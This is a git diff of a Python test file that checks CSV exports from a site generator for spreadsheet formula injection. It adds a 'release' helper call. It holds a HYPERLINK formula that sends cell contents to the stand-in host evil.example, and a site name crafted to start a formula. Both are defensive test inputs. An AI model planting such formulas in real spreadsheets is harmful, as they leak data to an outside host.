@@ -10,7 +10,7 @@ import shutil
 import unicodedata
 from pathlib import Path
 
-from conftest import REPO_ROOT, MakeRegister, run_cli, valid_record_text
+from conftest import REPO_ROOT, MakeRegister, release, run_cli, valid_record_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'
 
@@ -123,6 +123,7 @@ def test_every_csv_of_the_site_is_safe(make_register: MakeRegister, tmp_path: Pa
         re.sub(r"(?m)^site_name: .*$", "site_name: '－1+2 Safeguarding Partnership'", config),
         encoding="utf-8",
     )
+    release(root)  # the public figures are the release's, with the publisher's name
     for profile in ("internal", "public"):
         out = tmp_path / profile
         built = run_cli(
